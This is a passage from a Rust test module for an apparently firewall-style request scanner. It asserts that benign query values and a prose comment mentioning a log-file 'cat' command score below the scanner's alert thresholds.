            "LC & NC - Boys038-XL.jpg",
            "&uddg=http://www.example.com/blog/tags/zsh",
        ] {
            assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
        }
        // Prose in a body with a command word after a semicolon stays below PL1.
        let text = "Please check the log files carefully; cat /var/log/app.log shows the error we discussed yesterday";
        let mut out = Vec::new();
        scan(&Value { part: Part::BodyValue, name: "comment", text }, &mut out);
        assert!(out.iter().filter(|h| h.paranoia == 1).map(|h| h.score).sum::<u32>() < 5, "{out:?}");
    }
}
